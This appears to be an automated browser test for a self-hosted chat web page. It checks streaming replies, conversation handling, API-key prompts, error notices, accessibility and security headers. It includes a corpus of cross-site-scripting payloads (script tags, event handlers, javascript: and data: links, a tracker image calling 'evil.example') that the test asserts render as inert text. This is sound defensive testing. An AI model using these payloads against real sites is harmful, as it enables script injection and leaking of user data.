// Browser test of the embedded chat page:
//   node tests/browser/page_test.mjs <llamachat binary> <bedrock emulator binary> <artefact directory>
// Runs the real llamachat on 127.0.0.1:0, on the offline backend (its default word pacing) and on the Bedrock
// emulator, and drives Debian's chromium through playwright-core. Every wait is on an observable state (DOM,
// network, the emulator's counters), never on time. Screenshots go to the artefact directory.
// Exits 77 (ctest SKIP_RETURN_CODE) when chromium, playwright-core or axe-core is missing, saying so loudly.
import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync } from 'node:fs';
import { once } from 'node:events';
import { createRequire } from 'node:module';
import path from 'node:path';

const [binary, emulatorBinary, artefactDir = path.resolve('browser-artefacts')] = process.argv.slice(2);
const chromiumPath = process.env.LLAMACHAT_CHROMIUM || '/usr/bin/chromium';
function skip(why) {
  console.error(`\n*** SKIPPED: ${why} ***\n`);
  process.exit(77);
}
if (!existsSync(chromiumPath)) skip(`chromium not found at ${chromiumPath} (apt-get install chromium, or set LLAMACHAT_CHROMIUM)`);
let chromium;
try {
  ({ chromium } = await import('playwright-core'));
} catch {
  skip('playwright-core is not installed (scripts/setup.sh test runs npm ci in tests/browser)');
}
let axeSource;
try {
  axeSource = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
} catch {
  skip('axe-core is not installed (scripts/setup.sh test runs npm ci in tests/browser)');
}
mkdirSync(artefactDir, { recursive: true });

let failures = 0;
function check(ok, what) {
  console.log(`${ok ? 'ok    ' : 'FAILED'} ${what}`);
  if (!ok) failures++;
}

const children = [];
async function start(executable, args, env) {
  const child = spawn(executable, ['--host', '127.0.0.1', '--port', '0', ...args], { env });
  child.exited = once(child, 'exit');
  children.push(child);
  let output = '';
  const port = await new Promise((resolve, reject) => {
    const onData = (d) => {
      output += d;
      const m = /listening on [0-9.]+:(\d+)/.exec(output);
      if (m) resolve(Number(m[1]));
    };
    child.stdout.on('data', onData);
    child.stderr.on('data', onData);
    child.on('error', reject);
    child.on('exit', (code) => reject(new Error(`${executable} exited (${code}) before listening:\n${output}`)));
  });
  return { child, port };
}
const baseEnv = {
  PATH: process.env.PATH, AWS_EC2_METADATA_DISABLED: 'true', AWS_CONFIG_FILE: '/nonexistent/llamachat-test-config',
  AWS_SHARED_CREDENTIALS_FILE: '/nonexistent/llamachat-test-credentials',
};

const browser = await chromium.launch({
  executablePath: chromiumPath,
  args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
         '--disable-component-update', '--disable-sync'],
});

// A page that records what must never happen: console errors, page errors, CSP violations, requests to any
// other host, dialogs (alert() from an injected script), failed requests.
async function openPage(context, origin) {
  const page = await context.newPage();
  const problems = [];
  page.on('console', (m) => { if (m.type() === 'error' || m.type() === 'warning') problems.push(`${m.type()}: ${m.text()}`); });
  page.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`));
  page.on('dialog', (d) => { problems.push(`dialog: ${d.message()}`); d.dismiss(); });
  page.on('request', (r) => { if (!r.url().startsWith(origin + '/')) problems.push(`request to another origin: ${r.url()}`); });
  page.on('requestfailed', (r) => {
    if (!/ERR_ABORTED|INTERNET_DISCONNECTED/.test(r.failure()?.errorText || '')) problems.push(`requestfailed: ${r.url()}`);
  });
  await page.addInitScript(() => {
    window.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  page.problems = problems;
  return page;
}

async function cleanRun(page, what) {
  const csp = await page.evaluate(() => window.__cspViolations);
  check(csp.length === 0, `${what}: no CSP violations` + (csp.length ? ': ' + csp.join('; ') : ''));
  check(page.problems.length === 0, `${what}: no console errors, dialogs, failed or foreign requests` +
    (page.problems.length ? ': ' + page.problems.join('; ') : ''));
}

const lastReply = (page) => page.getByTestId('message-assistant').last();
const sendButton = (page) => page.getByRole('button', { name: 'Send', exact: true });
const messageBox = (page) => page.getByRole('textbox', { name: 'Message', exact: true });

// The reply is complete when the Send button is enabled again and the last reply has left streaming state.
async function replyDone(page) {
  await page.waitForFunction(() => !document.getElementById('send').disabled &&
    !document.querySelector('[data-streaming="true"]'), null, { timeout: 30000 });
}

async function say(page, text) {
  await messageBox(page).fill(text);
  await messageBox(page).press('Enter');
  await replyDone(page);
}

// Records every distinct text of the streaming reply's body, from the moment a reply view appears.
async function recordStreamStates(page) {
  await page.evaluate(() => {
    window.__states = [];
    const observer = new MutationObserver(() => {
      const body = document.querySelector('[data-streaming="true"] .body');
      const text = body ? body.textContent : null;
      if (text && window.__states[window.__states.length - 1] !== text) window.__states.push(text);
    });
    observer.observe(document.getElementById('log'), { subtree: true, childList: true, characterData: true });
  });
}

// The XSS corpus: each item must render as inert text. Items whose Markdown needs a line start follow a
// newline (the backends echo the message after a prefix).
const xssCorpus = [
  '<script>window.__xss = 1</script>',
  '<img src=x onerror="window.__xss = 2">',
  '<svg onload="window.__xss = 3"><circle r=5></circle></svg>',
  '[click me](javascript:window.__xss=4)',
  '[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![tracker](http://evil.example/pixel.png?secret=1)',
  '<a href="javascript:window.__xss=5" onclick="window.__xss=6">html link</a>',
  '&lt;script&gt;window.__xss=7&lt;/script&gt; &#60;b&#62;',
  'x\n```html\n<script>window.__xss=8</script>\n',
  '**unclosed *emphasis [broken](  <iframe src="javascript:window.__xss=9">',
  'x\n| a | <b onmouseover=window.__xss=10>b</b> |\n|---|---|\n| [t](vbscript:x) | <style>*{}</style> |',
];

async function checkInert(page, what) {
  const report = await page.evaluate(() => {
    const log = document.getElementById('log');
    const all = [...log.querySelectorAll('*')];
    return {
      xss: window.__xss,
      forbidden: all.filter((e) => ['SCRIPT', 'IMG', 'SVG', 'svg', 'IFRAME', 'STYLE', 'OBJECT', 'EMBED'].includes(e.tagName)).length,
      handlers: all.filter((e) => [...e.attributes].some((a) => a.name.startsWith('on'))).length,
      badLinks: [...log.querySelectorAll('a')].filter((a) => !/^(https?|mailto):/.test(a.href) ||
        a.rel !== 'noopener noreferrer' || a.target !== '_blank').map((a) => a.href),
      shownScript: log.textContent.includes('<script>'),
      entityKept: log.textContent.includes('&lt;script&gt;'),
      imageAlt: [...log.querySelectorAll('.image-alt')].map((e) => e.textContent),
    };
  });
  check(report.xss === undefined, `${what}: no injected script ran`);
  check(report.forbidden === 0, `${what}: no script, img, svg, iframe, style, object or embed element in the messages`);
  check(report.handlers === 0, `${what}: no element has an on* attribute`);
  check(report.badLinks.length === 0, `${what}: links are http(s)/mailto only, with target=_blank and rel="noopener noreferrer"` +
    (report.badLinks.length ? ': ' + report.badLinks.join(' ') : ''));
  check(report.shownScript, `${what}: raw HTML is shown as text`);
  check(report.entityKept, `${what}: HTML entities show as typed, never decoded into markup`);
  return report;
}

async function axeScan(page, scheme) {
  await page.emulateMedia({ colorScheme: scheme });
  await page.evaluate(axeSource);  // evaluated by the test harness, not by the page: CSP stays as served
  const violations = await page.evaluate(async () => {
    const result = await window.axe.run(document, { resultTypes: ['violations'] });
    return result.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical')
      .map((v) => `${v.id} (${v.impact}): ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`);
  });
  check(violations.length === 0, `axe-core, ${scheme} theme: no serious or critical violations` +
    (violations.length ? ': ' + violations.join('; ') : ''));
}

try {
  // ---- Offline backend, default pacing ---------------------------------------------------------------------
  const offline = await start(binary, [], baseEnv);
  const origin = `http://127.0.0.1:${offline.port}`;
  {
    const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
    const page = await openPage(context, origin);
    const assets = new Map();
    page.on('response', (r) => assets.set(new URL(r.url()).pathname, r));
    const main = await page.goto(origin + '/');
    const headers = main.headers();
    check(/default-src 'self'/.test(headers['content-security-policy']) && /frame-ancestors 'none'/.test(headers['content-security-policy']) &&
          !/unsafe/.test(headers['content-security-policy']), 'the page is served with a strict Content-Security-Policy');
    check(headers['x-content-type-options'] === 'nosniff' && headers['referrer-policy'] === 'no-referrer',
      'the page has X-Content-Type-Options: nosniff and Referrer-Policy: no-referrer');
    await page.waitForFunction(() => window.LlamaMarkdown && document.readyState === 'complete');
    const script = assets.get('/app.js');
    check(script && (await script.allHeaders())['content-encoding'] === 'gzip' && /immutable/.test(script.headers()['cache-control']),
      'app.js arrives gzip-compressed under a versioned, immutable URL');

    await page.getByTestId('backend-status').filter({ hasText: 'Offline mode' }).waitFor();
    check(true, 'the header says the service runs in offline mode');

    // Tokens arrive one after another: several distinct, growing states of the reply while it streams.
    await recordStreamStates(page);
    await say(page, 'Hello, please stream this reply');
    const states = await page.evaluate(() => window.__states);
    const growing = states.every((s, i) => i === 0 || s.startsWith(states[i - 1].replace(/\s+$/, '')));
    check(states.length >= 3 && growing, `the reply grew word by word while streaming (${states.length} distinct states)`);
    check((await lastReply(page).textContent()).includes('You said: "Hello, please stream this reply"'), 'the reply is complete');
    check(await messageBox(page).isEnabled() && await sendButton(page).isEnabled(), 'the input is enabled again after the reply');
    const usage = await lastReply(page).getByTestId('usage').textContent();
    check(/offline/.test(usage) && /\d+ prompt \+ \d+ reply tokens/.test(usage), `model and token usage are shown (${usage})`);

    // Multi-turn: the whole conversation goes to /v1/chat/completions.
    await say(page, 'And a second message');
    check((await lastReply(page).textContent()).includes('This is message 2 of our conversation'), 'the second turn carries the conversation');

    // Regenerate redoes the last reply, with a new request.
    let completions = 0;
    page.on('request', (r) => { if (r.url().endsWith('/v1/chat/completions')) completions++; });
    await page.getByRole('button', { name: 'Regenerate', exact: true }).click();
    await replyDone(page);
    check(completions === 1 && await page.getByTestId('message-assistant').count() === 2 &&
          (await lastReply(page).textContent()).includes('This is message 2'), 'Regenerate replaces the last reply with a new one');

    // Reload keeps the history.
    const before = await page.getByTestId('message-assistant').count();
    await page.reload();
    await page.waitForFunction(() => document.querySelectorAll('[data-testid="message-assistant"]').length > 0);
    check(await page.getByTestId('message-assistant').count() === before, 'reload keeps the conversation');
    check(await page.getByRole('button', { name: 'Hello, please stream this reply' }).count() === 1,
      'the conversation is titled by the start of its first message');

    // Several conversations: new, switch, rename, delete.
    await page.getByRole('button', { name: 'New chat', exact: true }).click();
    await say(page, 'Second conversation here');
    await page.getByRole('button', { name: 'Hello, please stream this reply' }).click();
    await page.waitForFunction(() => document.getElementById('log').textContent.includes('And a second message'));
    check(true, 'switching shows the first conversation again');
    await page.getByRole('button', { name: 'Rename', exact: true }).click();
    await page.getByLabel('Title').fill('Renamed by the test');
    await page.getByRole('button', { name: 'Save title' }).click();
    await page.reload();
    await page.getByRole('button', { name: 'Renamed by the test' }).waitFor();
    check(await page.getByRole('heading', { name: 'Renamed by the test' }).count() === 1, 'Rename survives a reload');
    await page.getByRole('button', { name: 'Delete', exact: true }).click();
    await page.getByRole('button', { name: 'Renamed by the test' }).waitFor({ state: 'detached' });
    check(await page.getByRole('button', { name: 'Second conversation here' }).count() === 1, 'Delete removes only that conversation');

    // XSS corpus through the offline echo.
    await page.getByRole('button', { name: 'New chat', exact: true }).click();
    for (const item of xssCorpus) await say(page, item);
    await checkInert(page, 'offline XSS corpus');

    // Code block highlighted and copyable (the user's message is plain text; the offline echo keeps the
    // fence inside quotes, so this one comes from a reply that is a code block through the emulator below).

    // Keyboard only: Tab to the controls, Shift+Enter adds a line, Enter sends, focus is visible.
    await page.getByRole('button', { name: 'New chat', exact: true }).focus();
    await page.keyboard.press('Enter');
    await page.waitForFunction(() => document.activeElement === document.getElementById('message'));
    const outline = await page.evaluate(() => getComputedStyle(document.activeElement).outlineStyle);
    await page.keyboard.type('first line');
    await page.keyboard.press('Shift+Enter');
    await page.keyboard.type('second line');
    check((await messageBox(page).inputValue()) === 'first line\nsecond line', 'Shift+Enter adds a line');
    await page.keyboard.press('Enter');
    await replyDone(page);
    check((await page.getByTestId('message-user').last().textContent()).includes('first line\nsecond line'), 'Enter sends');
    check(outline !== 'none', `the focused control shows a focus outline (${outline})`);
    await page.keyboard.press('Shift+Tab');
    const tabbed = await page.evaluate(() => [document.activeElement.textContent, getComputedStyle(document.activeElement).outlineStyle]);
    check(tabbed[1] !== 'none', `keyboard focus on "${tabbed[0].trim().slice(0, 30)}" is visible`);

    // Axe in both themes, then screenshots at both sizes in both themes.
    await say(page, 'A reply for the screenshots');
    for (const scheme of ['light', 'dark']) await axeScan(page, scheme);
    const shots = [];
    for (const [w, h] of [[1280, 800], [375, 812]]) {
      await page.setViewportSize({ width: w, height: h });
      for (const scheme of ['light', 'dark']) {
        await page.emulateMedia({ colorScheme: scheme });
        const file = path.join(artefactDir, `page-${w}x${h}-${scheme}.png`);
        await page.screenshot({ path: file });
        shots.push(file);
      }
    }
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    check(overflow <= 0, `no horizontal scrolling at 375 px (overflow ${overflow} px)`);
    console.log('screenshots:\n  ' + shots.join('\n  '));

    await cleanRun(page, 'offline session');
    await context.close();
  }

  // ---- API key against a real 401 (a second service with LLAMACHAT_API_KEYS), then errors (injected) ---------
  {
    const keyed = await start(binary, [], { ...baseEnv, LLAMACHAT_API_KEYS: 'test-key-123', LLAMACHAT_OFFLINE_DELAY_MS: '0' });
    const keyedOrigin = `http://127.0.0.1:${keyed.port}`;
    const context = await browser.newContext();
    const page = await openPage(context, keyedOrigin);
    const seenAuth = [];
    const statuses = [];
    page.on('request', (r) => { if (r.url().endsWith('/v1/chat/completions')) seenAuth.push(r.headers()['authorization'] || ''); });
    page.on('response', (r) => { if (r.url().endsWith('/v1/chat/completions')) statuses.push(r.status()); });
    await page.goto(keyedOrigin + '/');
    await messageBox(page).fill('needs a key');
    await messageBox(page).press('Enter');
    const keyField = page.getByLabel('API key', { exact: true });
    await keyField.waitFor();
    check(statuses[0] === 401 && seenAuth[0] === '', `the service refuses a turn without a key (status ${statuses[0]})`);
    check(await page.getByRole('dialog').count() === 1, 'its 401 opens a dialog that asks for an API key');
    await keyField.fill('test-key-123');
    await keyField.press('Enter');
    await replyDone(page);
    check((await lastReply(page).textContent()).includes('needs a key') && statuses.at(-1) === 200,
      `the turn is retried with the key and answered (statuses ${statuses.join(', ')})`);
    check(seenAuth.at(-1) === 'Bearer test-key-123' && await page.evaluate(() => localStorage.getItem('llamachat.apiKey')) === 'test-key-123',
      'the key is kept in localStorage and sent as Authorization: Bearer');
    await page.reload();
    await say(page, 'after a reload');
    check(statuses.at(-1) === 200 && seenAuth.at(-1) === 'Bearer test-key-123', 'after a reload the kept key is sent at once');
    const health = await page.evaluate(async () => (await fetch('/healthz')).status);
    check(health === 200, `/healthz stays open without a key (${health})`);
    const errorCase = async (what, fulfil, expected) => {
      await page.route('**/v1/chat/completions', fulfil);
      await say(page, what);
      const notice = await lastReply(page).getByTestId('notice').textContent();
      check(expected.test(notice), `${what}: "${notice}"`);
      await page.unroute('**/v1/chat/completions');
    };
    const apiError = (status, code, headers = {}) => (route) => route.fulfill({ status, headers: { 'Content-Type': 'application/json', ...headers },
      body: JSON.stringify({ error: { message: `injected ${code}`, type: 'server_error', code, param: null } }) });
    await errorCase('throttled', apiError(429, 'rate_limit_exceeded', { 'Retry-After': '7' }), /throttled.*7 s/);
    await errorCase('configuration missing', apiError(503, 'configuration'), /not configured.*AWS_REGION/);
    await errorCase('network down', (route) => route.abort('internetdisconnected'), /network connection/);
    const cutStream = 'data: {"id":"c","object":"chat.completion.chunk","model":"m","choices":[{"index":0,"delta":{"content":"Partial answer"}}]}\n\n' +
      'data: {"error":{"message":"Llama invocation failed: deadline","type":"server_error","code":"deadline_exceeded","param":null}}\n\ndata: [DONE]\n\n';
    await errorCase('time limit', (route) => route.fulfill({ status: 200, contentType: 'text/event-stream', body: cutStream }), /cut at the time limit/);
    check((await lastReply(page).textContent()).includes('Partial answer'), 'a reply cut at the time limit keeps its partial text');
    page.problems.splice(0, page.problems.length, ...page.problems.filter((p) => !/401|429|503|Failed to load resource/.test(p)));
    await cleanRun(page, 'error session');
    await context.close();
  }

  // ---- Load size and time, cold cache ----------------------------------------------------------------------
  {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(origin + '/', { waitUntil: 'load' });
    const perf = await page.evaluate(() => {
      const nav = performance.getEntriesByType('navigation')[0];
      const resources = performance.getEntriesByType('resource').filter((r) => !r.name.includes('/healthz'));
      return {
        transfer: nav.transferSize + resources.reduce((n, r) => n + r.transferSize, 0),
        decoded: nav.decodedBodySize + resources.reduce((n, r) => n + r.decodedBodySize, 0),
        load: Math.round(nav.loadEventEnd), files: 1 + resources.length,
      };
    });
    console.log(`page load (cold cache, loopback): ${perf.files} files, ${perf.transfer} bytes transferred ` +
      `(${perf.decoded} bytes decoded), load event at ${perf.load} ms`);
    check(perf.transfer > 0 && perf.transfer < perf.decoded, 'the page transfers fewer bytes than it decodes (gzip)');
    await page.reload({ waitUntil: 'load' });
    const revalidated = await page.evaluate(() => performance.getEntriesByType('navigation')[0].transferSize);
    console.log(`page reload: document ${revalidated} bytes transferred (304 revalidation)`);
    await context.close();
  }
  offline.child.kill('SIGTERM');

  // ---- Bedrock emulator ------------------------------------------------------------------------------------
  const emulator = await start(emulatorBinary, [], baseEnv);
  const emulatorUrl = `http://127.0.0.1:${emulator.port}`;
  const bedrock = await start(binary, [], {
    ...baseEnv, AWS_REGION: 'us-east-1', BEDROCK_MODEL_ID: 'us.meta.llama3-3-70b-instruct-v1:0',
    AWS_ENDPOINT_URL_BEDROCK_RUNTIME: emulatorUrl, AWS_ACCESS_KEY_ID: 'AKIDEXAMPLE',
    AWS_SECRET_ACCESS_KEY: 'wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY',
  });
  const bedrockOrigin = `http://127.0.0.1:${bedrock.port}`;
  const stats = async () => (await fetch(emulatorUrl + '/_emulator/stats')).json();
  {
    const context = await browser.newContext();
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: bedrockOrigin });
    const page = await openPage(context, bedrockOrigin);
    await page.goto(bedrockOrigin + '/');
    await page.getByTestId('backend-status').filter({ hasText: 'us.meta.llama3-3-70b-instruct-v1:0' }).waitFor();
    check(true, 'the header names the Bedrock model');

    await recordStreamStates(page);
    await say(page, 'Stream through Bedrock [[emulate:delay=20,words=12]]');
    const states = await page.evaluate(() => window.__states);
    check(states.length >= 3, `Bedrock reply arrived in pieces (${states.length} distinct states)`);
    const usage = await lastReply(page).getByTestId('usage').textContent();
    check(/us\.meta\.llama3-3-70b-instruct-v1:0/.test(usage) && /\d+ reply tokens/.test(usage), `model and usage shown (${usage})`);

    // Code block: highlighted spans, its own Copy button, the clipboard receives exactly the code.
    await say(page, 'Here is code:\n```js\nconst answer = 42; // the answer\nreturn "text";\n```');
    const block = lastReply(page).locator('.code-block');
    check(await block.locator('.tok-keyword', { hasText: 'const' }).count() === 1 &&
          await block.locator('.tok-number', { hasText: '42' }).count() === 1 &&
          await block.locator('.tok-comment').count() === 1 && await block.locator('.tok-string').count() === 1,
      'the code block is highlighted (keyword, number, comment, string)');
    await block.getByRole('button', { name: 'Copy', exact: true }).click();
    await page.waitForFunction(() => document.querySelector('.code-block button[data-copied]'));
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    check(copied === 'const answer = 42; // the answer\nreturn "text";', 'Copy puts the code on the clipboard');
    await lastReply(page).locator('.meta').getByRole('button', { name: 'Copy', exact: true }).click();
    await page.waitForFunction(() => [...document.querySelectorAll('.meta button[data-copied]')].length > 0);
    check((await page.evaluate(() => navigator.clipboard.readText())).startsWith('Emulated reply: Here is code:'), 'Copy copies a whole message');

    // An unclosed fence renders as code while streaming.
    await say(page, 'Open fence:\n```python\nx = 1 # never closed');
    check(await lastReply(page).locator('.code-block .tok-comment').count() === 1, 'an unclosed code fence renders as code');

    // Markdown: headings, lists, table, emphasis, link.
    await say(page, 'x\n# Title\n- **bold** and *em*\n- [site](https://example.com/)\n\n| a | b |\n|---|--:|\n| 1 | 2 |');
    const reply = lastReply(page);
    check(await reply.locator('h3').count() === 1 && await reply.locator('li').count() === 2 && await reply.locator('strong').count() === 1 &&
          await reply.locator('em').count() === 1 && await reply.locator('table td.align-right').count() === 1 &&
          await reply.locator('a[href="https://example.com/"][rel="noopener noreferrer"]').count() === 1,
      'Markdown renders headings, lists, emphasis, links and tables');

    // XSS corpus through the Bedrock path.
    await page.getByRole('button', { name: 'New chat', exact: true }).click();
    for (const item of xssCorpus) await say(page, item);
    const report = await checkInert(page, 'Bedrock XSS corpus');
    check(report.imageAlt.some((t) => t.includes('tracker')), 'a Markdown image shows its alt text and is never loaded');

    // Stop mid-stream, by Esc and by the button: the partial text stays and the upstream call is closed.
    // The emulator holds each reply after four events until the client goes, so the stop always lands mid-stream.
    for (const how of ['Esc', 'Stop']) {
      const cancelledBefore = (await stats()).streams_cancelled;
      await messageBox(page).fill(`Stop the upstream by ${how} [[emulate:stall@4]]`);
      await messageBox(page).press('Enter');
      await page.waitForFunction(() => {
        const body = document.querySelector('[data-streaming="true"] .body');
        return body && body.textContent.includes('Emulated reply: Stop');
      });
      if (how === 'Esc') {
        // The streaming cursor blinks, unless the user asked for reduced motion.
        const animation = () => page.evaluate(() =>
          getComputedStyle(document.querySelector('[data-streaming="true"] .body'), '::after').animationName);
        const normal = await animation();
        await page.emulateMedia({ reducedMotion: 'reduce' });
        const reduced = await animation();
        await page.emulateMedia({ reducedMotion: 'no-preference' });
        check(normal === 'blink' && reduced === 'none', `prefers-reduced-motion stops the animation (${normal} -> ${reduced})`);
        await page.keyboard.press('Escape');
      }
      else await page.getByRole('button', { name: 'Stop', exact: true }).click();
      await replyDone(page);
      const text = await lastReply(page).textContent();
      check(text.includes('Stopped.') && text.includes('Emulated reply: Stop'), `${how} stops the reply and keeps the partial text`);
      let after = await stats();
      // Poll the emulator's counter; the deadline only bounds a failure.
      for (const deadline = Date.now() + 15000; after.streams_cancelled <= cancelledBefore && Date.now() < deadline;) after = await stats();
      check(after.streams_cancelled === cancelledBefore + 1, `after ${how} the server closed the upstream call (emulator: streams_cancelled)`);
    }

    await cleanRun(page, 'Bedrock session');
    await context.close();
  }
} catch (err) {
  check(false, 'unexpected: ' + (err.stack || err));
} finally {
  await browser.close();
  for (const child of children) {
    child.kill('SIGTERM');
    await child.exited;
  }
}
console.log(failures === 0 ? '1 passed, 0 failed' : `0 passed, 1 failed (${failures} checks failed)`);
process.exit(failures === 0 ? 0 : 1);
